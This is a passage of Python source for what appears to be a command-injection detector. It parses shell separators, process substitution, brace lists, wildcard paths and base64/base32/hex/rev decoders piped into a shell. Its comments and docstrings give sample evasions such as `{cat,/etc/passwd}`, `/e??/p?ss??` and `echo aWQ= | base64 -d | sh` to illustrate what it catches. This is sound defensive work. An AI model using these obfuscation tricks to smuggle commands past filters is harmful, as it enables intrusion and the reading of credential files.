    line the program gets: the words of a string, or of argument lists (`subprocess.run(["rm", "-rf", tmp])`,
    `spawn('curl', ['-o', f])`), joined by spaces (`" -rf tmp"`, `" -o f"`)."""
    rest = _line_rest(text, name_end).split(")", 1)[0]
    return " " + " ".join(rest.translate(_ARGV_MARKS).split())


# Process substitution (`<(id)`, `>(id)`, Bash and ksh): a command run in a subshell like `$(...)`, where a word
# starts (`x;cat <(id)`, `x >(id)`; an emoticon's `:>(` is glued to its eyes).
_PROCESS = re.compile(r"(?:^|(?<=[ \t;|&]))[<>]\(")
_BRACE_OPENING = re.compile(r"[ \t]*(" + _BRACE_LIST + r")")


def _brace_opening(text: str) -> str | None:
    """`text` read as a shell command line when a brace list opens it (`{cat,/etc/passwd}`, `{id,}`): the list's
    words after a separator, so a value that is itself a command line expanded from a list is read as one
    after a value; None when no list opens it."""
    found = _BRACE_OPENING.match(text)
    if found is None:
        return None
    return ";" + _shell_word(found[1]).lstrip() + text[found.end():]


# Programs by the path a shell finds them at, and files an injection reads: what a pattern is expanded against.
_PROGRAM_TREE = globbing.Tree(f"{folder}/{name}" for folder in globbing.PROGRAM_DIRS
                              for name in COMMANDS | WORDLIKE | TOOLS if "." not in name)
_FILE_TREE = globbing.Tree(globbing.SENSITIVE_FILES)
_OPENS_COMMAND = frozenset(";|&\n`({!")  # what stands before a word in a command's place (or nothing)
HIDDEN_FILE = 0.85  # a sensitive file spelt by a pattern that hides its name (`/e??/p?ss??`)


def _GLOB_MARKS(text: str) -> bool:  # noqa: N802 - a screen, named as the patterns it stands for
    return "/" in text and ("?" in text or "*" in text or "[" in text or "bin/" in text)


def _command_place(text: str, at: int) -> bool:
    """Whether the word at `at` stands where a shell reads a command: first in the text or after a separator,
    a subshell's or a group's opening or `!` (blanks and quotes between)."""
    before = text[max(0, at - 64):at].rstrip(" \t'\"")
    if not before:
        return at <= 64
    return before[-1] in _OPENS_COMMAND


def _globbed(text: str, found: list[Injected]) -> str | None:
    """Absolute paths in `text` read as the shell expands them (`globbing`): a pattern in a command's place that
    names a known program, or anywhere that names a sensitive file, *hiding* the name (`globbing.hides`) is an
    injection of its own (`found`); and `text` with each program's path in a command's place read as the
    program's name (`/usr/bin/who*`, `/bin/id` -> `whoami`, `id`) and each file pattern as its file, for the
    separator reading; None when no path names either."""
    pieces: list[str] = []
    position = 0
    for start, end, word in globbing.patterns(text):
        path = _PROGRAM_TREE.first(word) if _command_place(text, start) else None
        if path is not None:
            if globbing.hides(word):
                found.append(Injected(start, end, 0.9, "globbed-command"))
            read = path.rsplit("/", 1)[1]
        else:
            path = _FILE_TREE.first(word) if globbing.wild(word) else None
            if path is None:
                continue
            if globbing.hides(word):
                found.append(Injected(start, end, HIDDEN_FILE, "globbed-file"))
            read = path
        pieces += (text[position:start], read)
        position = end
    if not pieces:
        return None
    pieces.append(text[position:])
    return "".join(pieces)


def commands(text: str, *, separated: bool | None = None, calls: bool | None = None,
             quoted: bool | None = None, globbed: bool | None = None, pasted: bool = False) -> list[Injected]:
    """Command injections in `text` (lower-cased), strongest reading first per separator.

    `separated` / `calls` / `quoted`: whether `SEPARATOR` / `EXEC_CALL` / `QUOTED_HINT` match `text`, when
    the caller already knows (from a combined scan); None to screen here. Words after separators are read
    a second time as the shell reads them (`shell_reading`) when any holds quoting. `pasted`: the text is a
    pasted program (the caller's code gate), where an exec call of an everyday command is its own business.
    `globbed`: whether `globbing.HINT` matches (a path with a wildcard, or a program's path opening a command)."""
    found: list[Injected] = []
    # Pre-screens (substring checks cost far less than a regex call): each pattern needs its character.
    if separated is None:
        separated = any(separator in text for separator in _SEPARATOR_STARTS)
    if calls is None:
        calls = "(" in text
    if separated:
        _separated(text, found)
    if quoted is None:  # a separator (or a brace list opening the text), then a quote, a backslash, a brace or an expansion
        quoted = ((any(separator in text for separator in _SEPARATOR_STARTS) or text.lstrip()[:1] == "{")
                  and any(mark in text for mark in "'\"\\{$^"))
    if "<(" in text or ">(" in text:  # process substitution, read as the substitution it is (the same length)
        substituted = _PROCESS.sub("$(", text)
        if substituted != text:
            seen = {(each.start, each.how) for each in found}
            more: list[Injected] = []
            _separated(substituted, more, text)
            found.extend(each for each in more if (each.start, each.how) not in seen)
    reading = shell_reading(text) if quoted else None
    if reading is not None:  # the same offsets: a command found there is where the quoted word stands
        seen = {(each.start, each.how) for each in found}
        more = []
        _separated(reading, more, text)
        found.extend(each for each in more if (each.start, each.how) not in seen)
    for other in (assembled_reading(text) if quoted else None, _brace_opening(text) if quoted else None,
                  _globbed(text, found) if globbed or (globbed is None and _GLOB_MARKS(text)) else None):
        if other is not None:  # another length: what is found there stands for the whole text
            further: list[Injected] = []
            _separated(other, further)
            if any(each.how == "injected-command" for each in further):
                found.append(Injected(0, len(text), 0.9, "injected-command"))
    calls_found = 0
    for groups in (each_spans(_EXEC_CALL, text) if calls else ()):
        (start, end), (name_start, name_end) = groups[:2]
        name = text[name_start:name_end]
        if name in COMMANDS or name in WORDLIKE:
            # A call asked about in a sentence ("what's the difference between os.system('ls') and ...")
            # running an everyday command is code talk: an alert, not a block.
            # An argument list runs no shell: no separator in it chains a command, so only what the command
            # itself does can make it a payload.
            talk = pasted or _listed(text, name_start) or _talk(text[max(0, start - 160):start], text, start)
            weight = 0.85 if not talk or harmful(name, _call_rest(text, name_end)) else (
                _PASTED_CALL if pasted else _TALKED_CALL)
            found.append(Injected(start, end, weight, "exec-call"))
            calls_found += 1
            if calls_found >= MAX_INJECTED:
                break
    return found


# Short base64 a shell decodes where it runs it: `$(echo aWQ= | base64 -d)`, the same in backticks, `base64 -d
# <<< aWQ=`, or `echo aWQ= | base64 -d | sh`. The message-wide base64 reading (`normalise.base64_payloads`)
# skips runs this short ("id" is four characters of base64), and reads none of them as a command.
_DECODER = re.compile(r"(?:echo|printf)(?:[ \t]+-[a-z]{1,3})*[ \t]+['\"]?([a-z0-9+/]{2,512}={0,2})['\"]?[ \t]*\|[ \t]*"
                      r"base64[ \t]+(?:-d|--decode|-di|-D)\b|base64[ \t]+(?:-d|--decode|-D)[ \t]*<<<[ \t]*['\"]?"
                      r"([a-z0-9+/]{2,512}={0,2})['\"]?", re.IGNORECASE)
_TO_SHELL = re.compile(r"[ \t]*\|[ \t]*(?:sudo[ \t]+)?(?:ba|z|k|da)?sh\b", re.IGNORECASE)
_PIPED_EVERYDAY = 0.5  # an everyday command decoded into a shell: hidden on purpose, worth an alert


def _decoded(run: str) -> str | None:
    try:
        command = base64.b64decode(run + "=" * (-len(run) % 4), validate=True).decode("utf-8")
    except (binascii.Error, UnicodeDecodeError, ValueError):
        return None
    command = command.strip().lower()
    return command if command and command.isprintable() else None


# Other decoders a value pipes a hidden command through (`echo imaohw | rev`, `echo 6964 | xxd -r -p`, `echo
# NFSA==== | base32 -d`), and a substitution that only prints a literal (`$(printf '\\x69d')`, `` `echo id` ``):
# what they print is the command. A run is quoted or has no white space, and is possessive: a run of words
# read from every `echo` of a text of them, and given back a character at a time, cost time quadratic in it.
_PIPED = re.compile(r"(?:echo|printf)(?:[ \t]+-[a-z]{1,3})*[ \t]+(?:'([^'\n]{1,160}+)'|\"([^\"\n]{1,160}+)\"|"
                    r"([^\s'\"|;&`()]{1,160}+))[ \t]*\|[ \t]*(rev|xxd[ \t]+-(?:r[ \t]+-p|p[ \t]+-r|rp|pr)|base32[ \t]+"
                    r"(?:-d|--decode))\b", re.IGNORECASE)
_ECHOED = re.compile(r"(?:\$\(|`)[ \t]*((?:echo|printf)(?:[ \t]+-[a-z]{1,3})*[ \t]+(['\"]?)([^'\"|;&\n`()$]{1,80}+)\2)"
                     r"[ \t]*(?:\)|`)", re.IGNORECASE)


def decoders(text: str) -> bool:
    """Whether `text` (lower-cased) holds a decoder `decoded` reads: most text holds none of these words."""
    return ("base64" in text or "base32" in text or "xxd" in text or ("rev" in text and "|" in text)
            or (("$(" in text or "`" in text) and ("echo" in text or "printf" in text)))


def _undone(tool: str, run: str) -> str | None:
    """What `tool` (`rev`, `xxd -r -p`, `base32 -d`) prints given `run`, lower-cased; None if it prints nothing
    readable."""
    tool = tool[:3].lower()
    run = run.strip()
    try:
        if tool == "rev":
            command = run[::-1]
        elif tool == "xxd":
            command = bytes.fromhex("".join(run.split())).decode("utf-8")
        else:
            command = base64.b32decode(run.upper() + "=" * (-len(run) % 8)).decode("utf-8")
    except (binascii.Error, UnicodeDecodeError, ValueError):
        return None
    command = command.strip().lower()
    return command if command and command.isprintable() else None


def _decodings(text: str) -> Iterator[tuple[int, int, str]]:
    """(start, end, command) of each decoder in `text` and what it prints."""
    for match in _DECODER.finditer(text):
        command = _decoded(match[1] or match[2])
        if command is not None:
            yield match.start(), match.end(), command
    if "|" in text:
        for match in _PIPED.finditer(text):
            command = _undone(match[4], match[1] or match[2] or match[3])
            if command is not None:
                yield match.start(), match.end(), command
    if "$(" in text or "`" in text:
        for match in _ECHOED.finditer(text):
            command = _ANSI_ESCAPE.sub(_ansi, match[3].lower()).strip()
            if command and command.isprintable():
                yield match.start(1), match.end(1), command


def decoded(text: str) -> list[Injected]:
    """Commands hidden from a reader that a shell decodes and runs (`_DECODER`, `_PIPED`, `_ECHOED`), in `text`
    as written (base64 keeps its case), spans on `text`. A decoder inside `$(...)` or backticks is replaced by
    what it decodes to and the text read as `commands` reads any; one piped into a shell is judged as the
    command it decodes to (`harmful`: an injection; another command: an alert)."""
    found: list[Injected] = []
    for start, end, command in _decodings(text):
        piped = _TO_SHELL.match(text, end)
        if piped is not None:
            name, _, rest = command.partition(" ")
            weight = 0.9 if harmful(name, " " + rest) else _PIPED_EVERYDAY if name in _LEADS else 0.0
            if weight:
                found.append(Injected(start, piped.end(), weight, "decoded-command"))
        else:
            reading = (text[:start] + command + text[end:]).lower()
            for each in commands(reading):
                if each.how == "injected-command" and start - 3 <= each.start <= start + len(command):
                    found.append(Injected(start, end, each.weight, "decoded-command"))
                    break
        if len(found) >= MAX_INJECTED:
            break
    return found
